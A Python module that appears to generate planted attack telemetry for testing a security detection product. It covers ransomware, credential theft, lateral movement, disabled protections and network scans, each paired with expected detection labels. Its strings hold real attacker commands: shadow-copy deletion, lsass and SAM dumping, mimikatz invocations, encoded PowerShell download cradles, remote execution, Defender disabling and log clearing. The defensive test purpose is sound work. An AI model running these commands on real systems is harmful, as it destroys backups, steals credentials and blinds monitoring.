"""What an intruder does once inside: encrypts, takes passwords, goes from machine to machine, switches watchers off."""

from hinomi.demo.hosts import subnet
from hinomi.demo.planted.happening import Antivirus, LoggedOn, Reached, Service, Setting, Started, Verdict, Wrote
from hinomi.demo.planted.plots.infections import RUNS, looks_around
from hinomi.demo.planted.plots.plot import Plot
from hinomi.demo.planted.scene import Expected, Scene, expect
from hinomi.demo.programs import EXPLORER, SUSPICIOUS, SYSTEM

POWERSHELL = f"{SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe"
CMD = f"{SYSTEM}cmd.exe"


def encrypts(scene: Scene) -> Expected:
    """Copies for recovery deleted, services stopped, drawings rewritten; the EDR names it or not."""
    who, host, random = scene.attacker, scene.host, scene.random
    locker = f"{who.folder(host.user)}{who.tool}"
    scene.then(Started(host, locker, locker, random.choice((EXPLORER, CMD, POWERSHELL))))
    wipes = (
        ("vssadmin", "vssadmin.exe Delete Shadows /All /Quiet"),
        ("WMIC", "wmic SHADOWCOPY /nointeractive delete"),
        ("powershell", 'powershell -c "Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}"'),
        ("powershell", 'powershell "Get-CimInstance Win32_ShadowCopy | Remove-CimInstance"'),
        ("wbadmin", "wbadmin DELETE SYSTEMSTATEBACKUP -keepVersions:0 -quiet"),
        ("bcdedit", "bcdedit.exe /set {default} recoveryenabled No"),
        ("vssadmin", "vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB"),
        ("wbadmin", "wbadmin delete catalog -quiet"),
    )
    for name, command in random.sample(wipes, random.randint(1, 3)):
        path = POWERSHELL if name == "powershell" else f"{SYSTEM}{name}.exe"
        scene.then(Started(host, path, command, locker), (1, 20))
    ending = random.choice(
        (who.word(2), f"id-{random.randint(1000, 9999)}.{who.word(2)}", "locked", "crypt", "lockbit")
    )
    said = Verdict("ファイル暗号化", "高", "短時間に多数のファイルを書き換え") if scene.chance(0.6) else None
    for number in range(12):
        file = f"C:\\Users\\{host.user}\\Documents\\図面\\A-{1000 + number}.dxf.{ending}"
        scene.then(Wrote(host, locker, file, said if number == 3 else None), (0, 4))
    return expect([host], ("ransomware",))


def takes_passwords(scene: Scene) -> Expected:
    who, host, random = scene.attacker, scene.host, scene.random
    drop, number = f"{who.folder(host.user)}{who.word()}", random.randint(500, 900)
    path, command = random.choice(
        (
            (
                f"{SYSTEM}rundll32.exe",
                f"rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump {number} {drop}.dmp full",
            ),
            (f"{SYSTEM}rundll32.exe", f"rundll32 comsvcs.dll,#24 {number} {drop}.bin full"),
            (f"{drop}.exe", f"{drop}.exe -accepteula -ma lsass.exe {drop}.dmp"),
            (f"{SYSTEM}reg.exe", f"reg save HKLM\\SAM {drop}.sav /y"),
            (f"{SYSTEM}reg.exe", f"reg.exe save hklm\\security {drop}"),
            (f"{SYSTEM}ntdsutil.exe", f'ntdsutil "ac i ntds" "ifm" "create full {drop}" q q'),
            (CMD, f"cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\windows\\ntds\\ntds.dit {drop}"),
            (f"{drop}.exe", f'{drop}.exe "privilege::debug" "sekurlsa::logonpasswords" exit'),
            (
                POWERSHELL,
                f'powershell -c "Copy-Item $env:LOCALAPPDATA\\Google\\Chrome\\User` Data\\Default\\Login` Data {drop}"',
            ),
        )
    )
    parent = random.choice((CMD, POWERSHELL))
    looks_around(scene, host, parent)
    scene.then(
        Started(
            host,
            path,
            command,
            parent,
            verdict=Verdict(SUSPICIOUS, scene.severity("中", "高")) if scene.chance(0.4) else None,
        )
    )
    return expect([host], ("credential_theft", *RUNS))


def goes_over(scene: Scene) -> Expected:
    """From one PC to the next, over what Windows has for administrators."""
    who, random = scene.attacker, scene.random
    first, second, *_ = scene.hosts
    drop = f"{who.folder(first.user)}{who.tool}"
    looks_around(scene, first, drop)
    account = random.choice((first.user, "administrator", "admin", "svc_backup"))
    remote, parent, child = random.choice(
        (
            (
                f'wmic /node:"{second.ip}" /user:{account} process call create "cmd.exe /c {drop}"',
                f"{SYSTEM}wbem\\WmiPrvSE.exe",
                f"cmd.exe /c {drop}",
            ),
            (
                f'wmic /node:{second.name} process call create "powershell -enc {who.encoded("IEX " + who.url())}"',
                f"{SYSTEM}wbem\\WmiPrvSE.exe",
                f"powershell -enc {who.encoded('IEX ' + who.url())}",
            ),
            (
                f"{who.folder(first.user)}PsExec64.exe \\\\{second.name} -s -d cmd.exe /c {drop}",
                "C:\\Windows\\PSEXESVC.exe",
                f"cmd.exe /c {drop}",
            ),
            (
                f"schtasks /create /s {second.ip} /u {account} /sc once /st 00:00 "
                f"/tn {who.word()} /tr {drop} /ru SYSTEM",
                f"{SYSTEM}svchost.exe",
                drop,
            ),
            (
                f'sc.exe \\\\{second.name} create {who.word()} binPath= "cmd /c {drop}" start= demand',
                f"{SYSTEM}services.exe",
                f"cmd /c {drop}",
            ),
            (
                f"powershell Invoke-Command -ComputerName {second.name} -ScriptBlock {{ {drop} }}",
                f"{SYSTEM}wsmprovhost.exe",
                f'"{SYSTEM}cmd.exe" /c {drop}',
            ),
            (
                f"{who.word()}.exe {account}:P@ss@{second.ip}",
                f"{SYSTEM}wbem\\WmiPrvSE.exe",
                f"cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__{random.random()} 2>&1",
            ),
        )
    )
    begun = remote.split()[0]
    path = (
        begun
        if ":\\" in begun
        else f"{SYSTEM}wbem\\WMIC.exe"
        if begun == "wmic"
        else f"{SYSTEM}{begun.removesuffix('.exe')}.exe"
    )
    said = (
        Verdict(SUSPICIOUS, scene.severity("中", "高"), "ほかの端末を遠隔から操作するコマンド")
        if scene.chance(0.5)
        else None
    )
    scene.then(Started(first, path, remote, CMD, verdict=said))
    scene.then(LoggedOn(second, first.ip, account), (0, 3))
    if "PSEXESVC" in parent:
        scene.then(Service(second, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"), (0, 3))
    runner = child.split()[0].strip('"')
    runner = runner if ":\\" in runner else POWERSHELL if runner == "powershell" else CMD
    scene.then(Started(second, runner, child, parent, user="SYSTEM", verdict=said), (1, 5))
    looks_around(scene, second, runner)
    return expect([first, second], ("lateral_movement", "ransomware", *RUNS))


def switches_off(scene: Scene) -> Expected:
    """The antivirus, the firewall or the recorders are switched off."""
    who, host, random = scene.attacker, scene.host, scene.random
    key = "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender"
    ways = (
        (POWERSHELL, "powershell Set-MpPreference -DisableRealtimeMonitoring $true"),
        (
            POWERSHELL,
            "powershell.exe -ep bypass Set-MpPreference -DisableRealtimeMonitoring 1 -DisableIOAVProtection 1",
        ),
        (POWERSHELL, f'powershell -c "Add-MpPreference -ExclusionPath {who.folder(host.user)}"'),
        (f"{SYSTEM}reg.exe", f'reg add "{key}" /v DisableAntiSpyware /t REG_DWORD /d 1 /f'),
        (f"{SYSTEM}sc.exe", "sc config WinDefend start= disabled"),
        (f"{SYSTEM}net.exe", f"net stop {random.choice(('WinDefend', 'wscsvc', 'SepMasterService'))}"),
        (f"{SYSTEM}netsh.exe", "netsh advfirewall set allprofiles state off"),
        (f"{SYSTEM}wevtutil.exe", f"wevtutil cl {random.choice(('Security', 'System'))}"),
        (
            f"{SYSTEM}taskkill.exe",
            f"taskkill /f /im {random.choice(('MsMpEng.exe', 'KeepEyeAgent.exe', 'NTRTScan.exe'))}",
        ),
        (
            "C:\\Program Files\\Windows Defender\\MpCmdRun.exe",
            '"C:\\Program Files\\Windows Defender\\MpCmdRun.exe" -RemoveDefinitions -All',
        ),
    )
    for path, command in random.sample(ways, 2):
        scene.then(Started(host, path, command, CMD), (2, 60))
    scene.then(Antivirus(host, 5001))
    scene.then(Setting(host, f"{SYSTEM}reg.exe", f"{key}\\DisableAntiSpyware", "DWORD (0x00000001)"))
    return expect([host], ("protection_weakened", *RUNS))


def scans_factory(scene: Scene) -> Expected:
    """An office PC tries machine after machine of the factory's network."""
    host, random = scene.host, scene.random
    network = f"{subnet(scene.tenant).rpartition('.')[0]}.{random.choice((200, 210, 50))}"
    ports = random.choice(((502,), (102, 502, 44818), (445, 502), (4840, 445, 3389), (5900, 502)))
    zone = random.choice(("factory", "kojo", "port3", "vlan20"))
    for number in random.sample(range(2, 250), random.randint(40, 90)):
        for port in ports:
            scene.then(Reached(host, f"{network}.{number}", port, zone, refused=scene.chance(0.6)), (0, 2))
    return expect([host], ("factory_network", "inside_scan", "lateral_movement"))


def guesses_inside(scene: Scene) -> Expected:
    """Over Windows logs alone: many failed logons from one machine, then one that works, and a service."""
    who, random = scene.attacker, scene.random
    first, second, *_ = scene.hosts
    for _ in range(random.randint(25, 60)):
        scene.then(
            LoggedOn(second, first.ip, random.choice(("administrator", "admin", second.user)), failed=True), (0, 3)
        )
    scene.then(LoggedOn(second, first.ip, "administrator"))
    command = random.choice(
        (
            "%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat",
            f"cmd.exe /c powershell -nop -w hidden -enc {who.encoded('IEX ' + who.url())}",
            f"%SystemRoot%\\{who.word(4)}.exe",
        )
    )
    scene.then(Service(second, who.word(random.choice((2, 3))), command))
    scene.then(
        Started(
            second, CMD, "cmd.exe /c net localgroup administrators & whoami", f"{SYSTEM}services.exe", user="SYSTEM"
        )
    )
    looks_around(scene, second, CMD)
    return expect([first, second], ("lateral_movement", "account_takeover", *RUNS))


PLOTS = (
    Plot("ransomware, EDR", encrypts, ("edr",)),
    Plot("ransomware, Windows logs", encrypts, ("windows_forwarded",), without=("edr",)),
    Plot("passwords taken", takes_passwords, ("edr",)),
    Plot("passwords taken, Windows logs", takes_passwords, ("windows_forwarded",), without=("edr",)),
    Plot("from PC to PC", goes_over, ("edr",), machines=2),
    Plot("protection switched off", switches_off, ("edr",)),
    Plot("protection switched off, Windows logs", switches_off, ("windows_forwarded",), without=("edr",)),
    Plot("factory network scanned", scans_factory, ("fortinet_fortigate",), learned=True),
    Plot("logons guessed, Windows logs", guesses_inside, ("windows_forwarded",), machines=2),
)
